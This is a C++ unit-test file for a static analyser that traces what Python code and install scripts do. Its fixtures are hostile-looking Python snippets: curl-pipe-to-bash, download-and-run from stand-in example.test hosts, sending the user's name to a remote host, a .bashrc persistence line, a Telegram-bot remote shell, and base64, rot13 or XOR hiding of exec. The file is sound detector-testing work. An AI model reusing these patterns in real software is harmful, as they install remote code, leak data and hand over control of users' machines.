// What only Python's code and library do.
#include <gtest/gtest.h>

#include "facts/code/flow/flow_for_test.h"

namespace assay::code {
namespace {

TEST(FlowPython, A_download_to_a_file_is_a_request_and_a_file_of_the_network) {
  const Scene scene = python(R"(
import os, urllib.request
path, headers = urllib.request.urlretrieve("https://files.example.test/tool.exe", "/tmp/tool.exe")
os.startfile(path)
)");
  ASSERT_ACTION(fetch, scene, Act::fetch);
  EXPECT_EQ(fetch->target, "https://files.example.test/tool.exe");
  ASSERT_ACTION(write, scene, Act::write_file);
  EXPECT_EQ(write->target, "/tmp/tool.exe");
  EXPECT_TRUE(write->data.has(Source::remote));
  ASSERT_ACTION(run, scene, Act::run_shell);
  EXPECT_TRUE(run->target_from.has(Source::remote));
}

TEST(FlowPython, A_download_without_a_place_is_named_by_its_address) {
  const Scene scene = python("import wget\nwget.download('https://files.example.test/a/run.sh')\n");
  ASSERT_ACTION(write, scene, Act::write_file);
  EXPECT_EQ(write->target, "run.sh");
}

TEST(FlowPython, A_stream_copied_into_a_file_is_written_to_it) {
  const Scene scene = python(R"(
import requests, shutil
with requests.get("https://files.example.test/x", stream=True) as answer:
    with open("/tmp/x.bin", "wb") as file:
        shutil.copyfileobj(answer.raw, file)
)");
  ASSERT_ACTION(write, scene, Act::write_file);
  EXPECT_EQ(write->target, "/tmp/x.bin");
  EXPECT_TRUE(write->data.has(Source::remote));
}

TEST(FlowPython, A_relative_path_lies_where_the_code_went) {
  const Scene scene = python(R"(
import os
os.chdir(os.path.expanduser("~"))
open(".bashrc", "a").write("\n~/.helper &")
)");
  ASSERT_ACTION(write, scene, Act::write_file);
  EXPECT_EQ(write->target, "~/.bashrc");
}

TEST(FlowPython, Runs_what_was_written_under_a_computed_name) {
  const Scene scene = python(R"(
import base64, os, random, subprocess, sys
name = os.getcwd() + "/" + ''.join(random.choice("abc") for i in range(8)) + ".py"
code = base64.b64decode("aW1wb3J0IG9zCm9zLnJlbW92ZSgnTkFNRScpCg==").decode().replace("NAME", os.getlogin())
with open(name, "w") as file:
    file.write(code)
subprocess.Popen([sys.executable, name])
)");
  ASSERT_ACTION(run, scene, Act::run_program, "subprocess.Popen");
  EXPECT_TRUE(run->target_from.has(Source::decoded));
  EXPECT_GE(run->program, 0);
  EXPECT_NE(scene.find(Act::delete_file, "os.remove"), nullptr);
}

constexpr std::string_view starts_own = R"(==> pkg/__init__.py

==> pkg/main.py
import os
if __name__ == "__main__":
    os.remove("/a")
==> setup.py
import subprocess, sys
)";

TEST(FlowPython, A_module_that_the_setup_script_starts_is_a_program) {
  for (const std::string_view line : {"subprocess.run([sys.executable, '-m', 'pkg.main'])",
                                      "subprocess.run(['python', 'pkg/main.py'])",
                                      "__import__('os').system('python3 -m pkg.main')"}) {
    const Scene scene = analyse(std::string(starts_own) + std::string(line) + "\n");
    ASSERT_ACTION(gone, scene, Act::delete_file);
    EXPECT_TRUE(gone->at_load) << line;
  }
  const Scene idle = analyse(starts_own);
  ASSERT_ACTION(kept, idle, Act::delete_file);
  EXPECT_FALSE(kept->at_load);
}

TEST(FlowPython, Whoever_loads_a_build_back_end_calls_its_hooks) {
  const Package package = package_from_bundle(R"(==> backend.py
import os
def build_wheel(folder, settings=None, metadata=None):
    os.remove("/a")
def unrelated():
    os.rmdir("/b")
)");
  const std::vector<FileRole> roles{{Trigger::install, false, Trigger::none, {"build_wheel"}}};
  Scene scene{package, analyse_flow(package, roles, {})};
  ASSERT_ACTION(called, scene, Act::delete_file, "os.remove");
  EXPECT_TRUE(called->at_load);
  ASSERT_ACTION(uncalled, scene, Act::delete_file, "os.rmdir");
  EXPECT_FALSE(uncalled->at_load);
}

TEST(FlowPython, What_a_probe_prints_says_whose_machine_it_is) {
  const Scene scene = python(R"(
import os, requests
name = os.popen("whoami").read().strip()
requests.get("https://in.example.test/" + name)
)");
  ASSERT_ACTION(send, scene, Act::send);
  EXPECT_TRUE(send->target_from.has(Source::user));
}

TEST(FlowPython, What_curl_prints_came_from_the_network) {
  const Scene scene =
      python("import subprocess\nexec(subprocess.getoutput('curl -s https://a.example.test/x'))\n");
  ASSERT_ACTION(run, scene, Act::run_code);
  EXPECT_TRUE(run->target_from.has(Source::remote));
}

TEST(FlowPython, Asking_for_ones_own_address_resolves_nothing) {
  const Scene scene = python(R"(
import socket, requests
requests.get("https://in.example.test/", params={"ip": socket.gethostbyname(socket.gethostname())})
)");
  EXPECT_EQ(scene.find(Act::resolve), nullptr);
  ASSERT_ACTION(send, scene, Act::send);
  EXPECT_TRUE(send->data.has(Source::host));
}

TEST(FlowPython, Decodes_through_a_codec_asked_for_by_name) {
  const Scene scene = python(R"code(
import codecs
exec(codecs.getdecoder("rot13")("vzcbeg bf; bf.erzbir('/n')")[0])
exec(__import__("base64").b64decode(codecs.getencoder("utf-8")("aW1wb3J0IG9zO29zLnJtZGlyKCcvYicp")[0]))
)code");
  EXPECT_NE(scene.find(Act::delete_file, "os.remove"), nullptr);
  EXPECT_NE(scene.find(Act::delete_file, "os.rmdir"), nullptr);
}

TEST(FlowPython, A_built_in_of_a_secret_name_runs_what_was_decoded) {
  const Scene scene = python(R"(
import base64, builtins, sys
plain = ''.join(chr((b - len(sys.argv[1])) % 256) for b in base64.b64decode("DA=="))
getattr(builtins, plain)(base64.b64decode(plain))
)");
  ASSERT_ACTION(run, scene, Act::run_code, "builtins.*");
  EXPECT_TRUE(run->target_from.has(Source::decoded));
}

TEST(FlowPython, A_file_is_of_the_language_of_the_interpreter_that_runs_it) {
  const Scene scene = analyse(R"(==> pkg/version
import os
os.remove("/a")
==> setup.py
import subprocess, sys
subprocess.Popen([sys.executable, "pkg/version"])
)");
  ASSERT_ACTION(gone, scene, Act::delete_file);
  EXPECT_TRUE(gone->at_load);
}

TEST(FlowPython, A_path_in_the_temporary_folder_is_the_same_however_it_is_written) {
  const Scene scene = python(R"code(
import subprocess, tempfile
with open(tempfile.gettempdir() + "\\job.vbs", "w") as file:
    file.write(__import__("requests").get("https://files.example.test/job").text)
subprocess.Popen("cmd /c %TEMP%\\job.vbs", shell=True)
)code");
  ASSERT_ACTION(run, scene, Act::run_shell);
  EXPECT_TRUE(run->target_from.has(Source::remote));
}

TEST(FlowPython, Follows_a_method_that_is_kept_under_another_name) {
  const Scene scene = python(R"code(
glue = "".join
parts = []
add = parts.append
add("rm -rf /a")
import os
os.system(glue([chr(c) for c in [101, 99, 104, 111, 32, 104, 105, 33]]))
os.popen(parts[0])
)code");
  ASSERT_ACTION(first, scene, Act::run_shell, "os.system");
  EXPECT_EQ(first->target, "echo hi!");
  EXPECT_TRUE(first->target_from.has(Source::decoded));
  ASSERT_ACTION(second, scene, Act::run_shell, "os.popen");
  EXPECT_EQ(second->target, "rm -rf /a");
}

TEST(FlowPython, What_XOR_gives_was_encoded) {
  const Scene scene = python(R"code(
key = "k"
text = ""
for letter in "\x02\x06\x1b\x04\x19\x1fK\x04\x18":
    text += chr(ord(letter) ^ ord(key))
exec(text)
)code");
  ASSERT_ACTION(run, scene, Act::run_code);
  EXPECT_EQ(run->target, "import os");
  EXPECT_TRUE(run->target_from.has(Source::decoded));
}

TEST(FlowPython, A_command_of_setuptools_runs_though_no_cmdclass_names_it) {
  const Scene scene = python(R"code(
import os
from setuptools import setup
from setuptools.command.install import install
class Later(install):
    def run(self):
        os.remove("/a")
setup(name="x")
)code");
  ASSERT_ACTION(gone, scene, Act::delete_file);
  EXPECT_TRUE(gone->at_load);
}

TEST(FlowPython, Short_flags_in_one_word_name_the_file_of_a_download) {
  for (const std::string_view line : {"wget -qO /tmp/tool-x https://files.example.test/a",
                                      "curl -sSLo /tmp/tool-x https://files.example.test/a"}) {
    const Scene scene = python("import os\nos.system('" + std::string(line) + "')\n");
    ASSERT_ACTION(write, scene, Act::write_file);
    EXPECT_EQ(write->target, "/tmp/tool-x") << line;
    ASSERT_ACTION(fetch, scene, Act::fetch);
    EXPECT_EQ(fetch->target, "https://files.example.test/a") << line;
  }
}

TEST(FlowPython, A_constant_that_is_encoded_only_to_be_decoded_by_a_shell_is_followed) {
  const Scene scene = python(R"code(
import base64, os
line = base64.b64encode(b"curl https://files.example.test/a | sh").decode()
os.system("echo %s|base64 -d|bash" % line)
)code");
  ASSERT_ACTION(fetch, scene, Act::fetch, "curl");
  EXPECT_EQ(fetch->target, "https://files.example.test/a");
}

TEST(FlowPython, A_decorator_may_start_what_it_decorates) {
  const Scene scene = python(R"code(
import atexit, os
@atexit.register
def last():
    os.remove("/a")
def at_once(function):
    function()
    return function
@at_once
def first():
    os.rmdir("/b")
)code");
  for (const std::string_view api : {"os.remove", "os.rmdir"}) {
    ASSERT_ACTION(gone, scene, Act::delete_file, api);
    EXPECT_TRUE(gone->at_load) << api;
  }
}

TEST(FlowPython, What_a_bot_is_told_came_from_the_network) {
  const Scene scene = python(R"code(
import subprocess, telebot
def start(token):
    bot = telebot.TeleBot(token)
    @bot.message_handler(commands=["run"])
    def run(message):
        subprocess.run(message.text[4:], shell=True)
)code");
  ASSERT_ACTION(run, scene, Act::run_shell);
  EXPECT_TRUE(run->target_from.has(Source::remote));
}

TEST(FlowPython, A_main_guard_runs_when_a_user_starts_the_program_not_when_it_is_installed) {
  const Package package =
      package_from_bundle("==> a.py\nimport os\nif __name__ == '__main__':\n    os.remove('/a')\n");
  const std::vector<FileRole> roles{{Trigger::install, false, Trigger::command, {}}};
  Scene scene{package, analyse_flow(package, roles, {})};
  ASSERT_ACTION(gone, scene, Act::delete_file);
  EXPECT_EQ(gone->trigger, Trigger::command);
}

TEST(FlowPython, Commands_that_only_maintainers_type_do_not_run_at_installation) {
  const std::string_view code = R"code(
import os
from setuptools import Command, setup
class Publish(Command):
    def run(self):
        os.remove("/a")
class Build(Command):
    def run(self):
        os.rmdir("/b")
setup(name="x", cmdclass={"publish": Publish, "build_py": Build})
)code";
  const Scene scene = python(code);
  ASSERT_ACTION(published, scene, Act::delete_file, "os.remove");
  EXPECT_FALSE(published->at_load);
  ASSERT_ACTION(built, scene, Act::delete_file, "os.rmdir");
  EXPECT_TRUE(built->at_load);
}

TEST(FlowPython, A_loop_that_an_exception_ends_is_not_endless) {
  const std::string loop = "    while True:\n        step()\n";
  EXPECT_EQ(python("try:\n" + loop + "except StopIteration:\n    pass\n").find(Act::endless_loop),
            nullptr);
  EXPECT_NE(python("if True:\n" + loop).find(Act::endless_loop), nullptr);
}

TEST(FlowPython, Paths_are_followed_through_pathlib) {
  for (const std::string_view path : {"Path(__file__).parent.joinpath('pkg', 'version.py')",
                                      "(Path(__file__).resolve().parent / 'pkg' / 'version.py')"}) {
    const Scene scene =
        analyse("==> pkg/version.py\nv = 1\n==> setup.py\nfrom pathlib import Path\nexec(" +
                std::string(path) + ".read_text())\n");
    ASSERT_ACTION(run, scene, Act::run_code);
    EXPECT_EQ(run->target, "v = 1\n") << path;
    EXPECT_TRUE(run->target_from.has(Source::asset)) << path;
  }
}

TEST(FlowPython, A_module_that_code_wrote_runs_when_it_is_imported) {
  const Scene scene = python(R"code(
import os, sys, tempfile
folder = tempfile.mkdtemp()
def unpack(path, contents):
    with open(os.path.join(folder, path), "wb") as file:
        file.write(contents)
sys.path.insert(0, folder)
unpack("plugins/__init__.py", b"import os\nos.remove('/a')\nname = '/b'\n")
from plugins import name
os.rmdir(name)
)code");
  ASSERT_ACTION(inside, scene, Act::delete_file, "os.remove");
  EXPECT_TRUE(inside->at_load);
  ASSERT_ACTION(outside, scene, Act::delete_file, "os.rmdir");
  EXPECT_EQ(outside->target, "/b");
}

TEST(FlowPython, A_comprehension_of_very_many_clauses_is_cut_not_followed_to_the_end_of_the_stack) {
  std::string code = "import os\nlist(a for a in '/b' if a for ";
  for (int i = 0; i < 200'000; ++i) code += "b in 'c' for ";
  code += "d in 'e')\nos.remove('/a')\n";
  EXPECT_NE(python(code).find(Act::delete_file), nullptr);
}

}  // namespace
}  // namespace assay::code
